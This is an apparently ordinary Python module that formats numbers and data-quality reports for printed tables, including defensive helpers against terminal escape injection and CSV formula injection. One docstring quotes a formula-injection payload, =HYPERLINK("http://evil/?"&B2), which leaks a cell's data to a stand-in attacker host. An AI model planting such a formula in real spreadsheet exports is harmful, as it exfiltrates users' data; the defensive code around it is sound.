"""Readable numbers for the tables that notebooks and the dashboard print.

Pure functions: they round what is shown, never the values the pipeline writes to its reports.
"""

from __future__ import annotations

import math
import numbers
import re
from collections.abc import Mapping, Sequence
from decimal import Decimal
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # run_all prints with visible_text; importing pandas would slow its start
    import pandas as pd

#: Decimals (:func:`readable`) or significant digits (:func:`significant`, :func:`number_text`) of printed tables.
DIGITS = 3
#: Most characters of a name drawn as a figure's tick label (see :func:`plain_label`).
MAX_LABEL_CHARS = 40
#: Most characters of a figure's title that names a feature (wider ones run off both edges).
MAX_TITLE_CHARS = 110
#: A threshold at or above this is a "never" sentinel (``unknown_features_fail: 1000000``).
NO_LIMIT = 1_000_000
#: How a sentinel threshold is printed.
NO_LIMIT_TEXT = "none"
#: Below this magnitude a number reads "< 0.000001" instead of a long run of zeros.
SMALLEST = 1e-6
#: :data:`SMALLEST` as printed.
SMALLEST_TEXT = "0.000001"


def _is_float(value: Any) -> bool:
    # numbers.Real: numpy's float32 is no Python float; Integral: a count (or bool) stays as it is.
    return isinstance(value, numbers.Real) and not isinstance(value, numbers.Integral)


def _rounded(value: Any, digits: int) -> Any:
    if _is_float(value) and math.isfinite(value):
        return round(float(value), digits)
    return value


def readable(table: pd.DataFrame | pd.Series, *, digits: int = DIGITS) -> pd.DataFrame | pd.Series:
    """``table`` with every float (in float or mixed-type columns) rounded to ``digits`` decimals.

    Integers, booleans and text are left alone, so a count stays a count.

    Raises
    ------
    ValueError
        If ``digits`` is negative.
    """
    import pandas as pd

    if digits < 0:
        raise ValueError(f"digits must be >= 0, got {digits!r}.")
    if isinstance(table, pd.Series):
        if table.dtype.kind == "f":
            return table.round(digits)
        if table.dtype != object:
            return table.copy()
        # Element by element, keeping dtype object: map() would turn 72 into 72.0 beside a float.
        return pd.Series([_rounded(v, digits) for v in table], index=table.index, name=table.name, dtype=object)
    return pd.DataFrame({c: readable(table[c], digits=digits) for c in table.columns}, index=table.index)


def significant(table: pd.DataFrame | pd.Series, *, digits: int = DIGITS) -> pd.DataFrame | pd.Series:
    """``table`` with every float written by :func:`number_text` at ``digits`` significant digits.

    For tables whose rows mix units (latencies in ms beside crash rates): fixed decimals would
    print 1188.380 ms and a crash rate of 0.000. Integers, booleans and text are left alone; NaN
    reads "".
    """
    import pandas as pd

    if isinstance(table, pd.Series):
        shown = [number_text(v, digits=digits) if _is_float(v) else v for v in table]
        return pd.Series(shown, index=table.index, name=table.name, dtype=object)
    return pd.DataFrame({c: significant(table[c], digits=digits) for c in table.columns}, index=table.index)


#: Characters a terminal acts on (escape sequences, carriage return, bell; C0 and C1) but the line
#: break, and the invisible marks that reorder the text around them (bidi embeddings, overrides,
#: isolates and marks: "Trojan Source"), which could make a line read as something else.
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def visible_text(text: object, *, one_line: bool = False) -> str:
    r"""``text`` safe to show in a terminal, cron mail or web page: control characters written as escapes.

    Ids, names and messages quote other teams' exports; shown raw, an escape sequence in one
    could retitle or clear the terminal, a carriage return overwrite the line, and a
    right-to-left override make the rest of a sentence read backwards. With ``one_line`` a line
    break is escaped too, so a value cannot add a line of its own (a fake "succeeded", say) to
    the run's output.

    >>> visible_text("F\x1b[2J\nx", one_line=True)
    'F\\x1b[2J\\nx'
    >>> visible_text("F\u202eabc")
    'F\\u202eabc'
    """
    escaped = _CONTROL.sub(lambda m: repr(m.group())[1:-1], str(text))
    return escaped.replace("\n", "\\n") if one_line else escaped


#: First characters that make a spreadsheet read a cell as a formula (OWASP's list for CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value: Any) -> Any:
    """``value`` for a CSV a spreadsheet opens: text it would run as a formula gets a ``'`` in front.

    Ids and names come from other teams' exports: ``=HYPERLINK("http://evil/?"&B2)`` as a feature
    name became a live link. Text already starting with quotes before such a character gets one
    more, so :func:`csv_text` gives back exactly what was written; anything else is unchanged.

    >>> spreadsheet_text("=1+1"), spreadsheet_text("-2"), spreadsheet_text(-2), spreadsheet_text("a=b")
    ("'=1+1", "'-2", -2, 'a=b')
    """
    return f"'{value}" if isinstance(value, str) and value.lstrip("'").startswith(FORMULA_STARTS) else value


def csv_text(value: Any) -> Any:
    """A field of a CSV written with :func:`spreadsheet_text` as it was before, for programs reading it.

    >>> csv_text("'=1+1"), csv_text("'quoted'")
    ('=1+1', "'quoted'")
    """
    marked = isinstance(value, str) and value.startswith("'") and value.lstrip("'").startswith(FORMULA_STARTS)
    return value[1:] if marked else value


def listed(shown: Sequence[str], *, total: int) -> str:
    """``shown`` joined by commas, then how many of ``total`` items were left out.

    >>> listed(["F1", "F2"], total=5)
    'F1, F2 and 3 more'
    """
    more = total - len(shown)
    return ", ".join(shown) + (f" and {more} more" if more > 0 else "")


def count_text(n: numbers.Real, noun: str, *, plural: str | None = None) -> str:
    """``n`` (as :func:`number_text` writes it) and ``noun``, in the plural unless ``n`` is 1 or -1.

    ``plural`` is the plural where adding "s" would be wrong. A negative ``n`` (a model built after
    a backfill's as-of date is -3 days old) reads as English does, "-1 day", so that a report's
    odd value is shown rather than failing the page that shows it.

    >>> count_text(1, "day"), count_text(2, "day"), count_text(1234, "row"), count_text(0, "entry", plural="entries")
    ('1 day', '2 days', '1,234 rows', '0 entries')

    Raises
    ------
    ValueError
        If ``n`` is not a finite number, or ``noun`` or ``plural`` is empty or padded with spaces.
    """
    if isinstance(n, bool) or not isinstance(n, numbers.Real) or not math.isfinite(n):
        raise ValueError(f"n must be a finite number (a count), got {n!r}.")
    for word in (noun, plural):
        if word is not None and (not word or word != word.strip()):
            raise ValueError(f"noun and plural must be words without surrounding spaces, got {word!r}.")
    return f"{number_text(n)} {noun if abs(n) == 1 else plural or noun + 's'}"


def number_text(value: Any, *, digits: int = DIGITS) -> str:
    """A number for people: ``digits`` significant digits, never in exponent form.

    0.528846 reads 0.529 and 0.000054 reads 0.000054; from 10**digits up, or where rounding reaches
    it (999.9996 at 3 digits), a number reads whole with thousands separators (1,000). A magnitude
    below :data:`SMALLEST` reads "< 0.000001" (a p-value of 1e-12). Whole numbers print without
    decimals; None or NaN print "".

    >>> [number_text(v) for v in (999.9996, 12345.678, 0.0000542, 1e-12)]
    ['1,000', '12,346', '0.0000542', '< 0.000001']

    Raises
    ------
    ValueError
        If ``digits`` is below 1.
    """
    if digits < 1:
        raise ValueError(f"digits must be >= 1, got {digits!r}.")
    if value is None or (isinstance(value, numbers.Real) and value != value):
        return ""
    if isinstance(value, bool) or not isinstance(value, numbers.Real):
        return str(value)
    if not math.isfinite(value):
        return str(float(value))
    if float(value).is_integer():
        return f"{int(value):,}"
    if 0 < abs(value) < SMALLEST:
        return f"{'> -' if value < 0 else '< '}{SMALLEST_TEXT}"
    significant = f"{value:.{digits}g}"
    # "1e+03" is what 999.9996 rounds to at 3 digits: past the digits shown, a number reads whole.
    if abs(float(significant)) >= 10**digits:
        return f"{value:,.0f}"
    # Through Decimal, as "g" writes 0.0000542 as "5.42e-05", which stakeholders misread.
    return format(Decimal(significant), "f")


def percent_text(share: float) -> str:
    """``share`` as a percentage, to a tenth where whole per cent would hide it.

    >>> percent_text(0.2), percent_text(0.005), percent_text(0.0125)
    ('20%', '0.5%', '1.2%')
    """
    return f"{share:.0%}" if round(share * 100, 9).is_integer() else f"{share:.1%}"


def not_trained_text(reason: str, *, version: str | None) -> str:
    """The model step's line when the data cannot train a model yet (``reason``, as
    :class:`featurehealth.model.NotTrainableYetError` gives it; the notebook and the run's
    console line say it alike): the model in use ``version`` scores on, or there is none.

    >>> not_trained_text("none of its 9 training feature-days degrades.", version="2026-02-01-ab12")
    'not trained: none of its 9 training feature-days degrades; scoring with model 2026-02-01-ab12 in use, as model.retrain=never would.'
    """
    then = (f"scoring with model {version} in use, as model.retrain=never would" if version
            else "no model is in use, so nothing is scored until a run has the data to train one")
    return f"not trained: {reason.rstrip('.')}; {then}."


def withheld_text(advice: Mapping[str, Any]) -> str:
    """What the drift step's withheld retraining advice (``reports/retrain.json``) follows "retraining
    not advised" with, so that the run's console line and the dashboard say it alike; "" when it
    was not withheld.

    >>> withheld_text({"withheld": "no model is in use", "withheld_reasons": ["25% of drift cells alert"]})
    ', though a check fired (25% of drift cells alert): no model is in use'
    """
    if not advice.get("withheld"):
        return ""
    return f", though a check fired ({'; '.join(advice.get('withheld_reasons') or [])}): {advice['withheld']}"


def plain_label(value: Any, *, max_chars: int | None = None) -> str:
    """``value`` as a matplotlib label drawn exactly as written, at most ``max_chars`` long.

    Matplotlib reads text between two ``$`` as mathtext: a feature name like ``Pay $5 or $10``
    would be drawn garbled, and one that is not valid mathtext makes drawing the figure fail.
    Every ``$`` is escaped, so names from other teams' exports are always plain text. A longer
    text keeps its start and end around an ellipsis: one very long name as a tick label would
    otherwise squeeze the plot away and cut every other label.

    Raises
    ------
    ValueError
        If ``max_chars`` is below 3.
    """
    text = str(value)
    if max_chars is not None:
        if max_chars < 3:
            raise ValueError(f"max_chars must be >= 3, got {max_chars!r}.")
        if len(text) > max_chars:
            head = (max_chars - 1) // 2 + (max_chars - 1) % 2
            text = text[:head] + "\u2026" + text[len(text) - (max_chars - 1 - head):]
    return text.replace("$", r"\$")


def threshold_text(value: Any, *, digits: int = DIGITS) -> str:
    """A threshold as :func:`number_text`, or :data:`NO_LIMIT_TEXT` for a "never" sentinel."""
    if isinstance(value, numbers.Real) and not isinstance(value, bool) and value >= NO_LIMIT:
        return NO_LIMIT_TEXT
    return number_text(value, digits=digits)


#: What the observed value of each check of :mod:`featurehealth.quality` is.
QUALITY_MEASURES = {
    "missing_days": "share of the window's expected feature-days without any valid event",
    "published_gap": "days without data in the published table outside the window",
    "late_rows": "rows of the day before the window that arrived after its run, or left the input since",
    "volume_drop": "lowest feature-day's events over its usual (trailing median; 1 = usual, lower is worse)",
    "duplicate_events": "share of input rows that repeat an event",
    "null_rate": "highest share of missing or unreadable values in a column (optional ones: unreadable)",
    "out_of_range": "share of input rows with an impossible value (say, a negative latency)",
    "freshness": "days from the latest input day to the as-of date",
    "unknown_features": "features with events but no row in the feature metadata",
}


def quality_entries(report: Mapping[str, Any]) -> tuple[list[dict[str, Any]], list[str]]:
    """The checks of a ``data_quality.json`` report that are objects with a name, and a phrase for
    each entry that is not ("check 3 is not an object", "check 5 has no name").

    A report edited by hand or cut short may hold anything: readers show what they can and say
    what they left out, rather than fail or drop an entry without a word.

    >>> quality_entries({"checks": [{"name": "freshness"}, 7, {"status": "fail"}]})
    ([{'name': 'freshness'}], ['check 2 is not an object', 'check 3 has no name'])
    """
    checks = report.get("checks", [])
    if not isinstance(checks, list):
        return [], ["checks is not a list"]
    usable, problems = [], []
    for number, check in enumerate(checks, start=1):
        if not isinstance(check, dict):
            problems.append(f"check {number} is not an object")
        elif not isinstance(check.get("name"), str) or not check["name"]:
            problems.append(f"check {number} has no name")
        else:
            usable.append(check)
    return usable, problems


def quality_rows(report: Mapping[str, Any]) -> list[dict[str, Any]]:
    """One dict per check of a ``data_quality.json`` report: ``check``, ``status``, ``observed``
    (as reported), ``warn`` and ``fail`` (text, a sentinel reading :data:`NO_LIMIT_TEXT`) and
    ``rule``; entries that are not checks (:func:`quality_entries`) are left out.
    """
    rows = []
    for check in quality_entries(report)[0]:
        threshold = check.get("threshold") if isinstance(check.get("threshold"), dict) else {}
        rows.append({
            "check": check["name"], "status": check.get("status"), "observed": check.get("observed"),
            "warn": threshold_text(threshold.get("warn")), "fail": threshold_text(threshold.get("fail")),
            "rule": check.get("rule"),
        })
    return rows


def quality_table(report: Mapping[str, Any]) -> pd.DataFrame:
    """The data-quality checks for printing: ``check``, ``measures`` (:data:`QUALITY_MEASURES`, "" for
    a check it does not know), ``status``, ``observed``, ``warn``, ``fail``.

    Numbers as text with :data:`DIGITS` significant digits (a share of 0.000542 must not read as
    the 0.001 warn threshold); a sentinel threshold reads :data:`NO_LIMIT_TEXT`.
    """
    import pandas as pd

    rows = [{**row, "measures": QUALITY_MEASURES.get(row["check"], ""), "observed": number_text(row["observed"])}
            for row in quality_rows(report)]
    return pd.DataFrame(rows, columns=["check", "measures", "status", "observed", "warn", "fail"])


def quality_lines(report: Mapping[str, Any] | None, *, not_judged_messages: bool = False) -> str | None:
    """A data-quality report as text: a line naming the checks that failed, warned or could not be
    judged, then the message of each that failed or warned on its own line (what is wrong and the
    fix, e.g. a backfill command); None without a report.

    The run prints it, so cron mail shows it. With ``not_judged_messages`` the message of each check
    that could not be judged follows too (why not: a notebook's reader has no other place to find it).
    Entries that are not checks (:func:`quality_entries`) are named on a last line.
    """
    if not report:
        return None
    usable, malformed = quality_entries(report)
    checks = [c for c in usable if c.get("status") in ("fail", "warn")]
    unjudged = [c for c in usable if c.get("status") == "not_judged"]
    flagged = [f"{c['name']} {c['status']}" for c in checks] + [f"{c['name']} not judged" for c in unjudged]
    status = (report.get("summary") or {}).get("status")
    explained = checks + unjudged if not_judged_messages else checks
    lines = [f"data quality: {status}" + (f" ({', '.join(flagged)})" if flagged else "")]
    # Messages quote feature ids, which may hold a line break: one line each, whatever they quote.
    lines += [f"  {c['name']}: {visible_text(c['message'], one_line=True)}" for c in explained if c.get("message")]
    lines += [f"  malformed report entries left out: {'; '.join(malformed)}"] if malformed else []
    return "\n".join(lines)
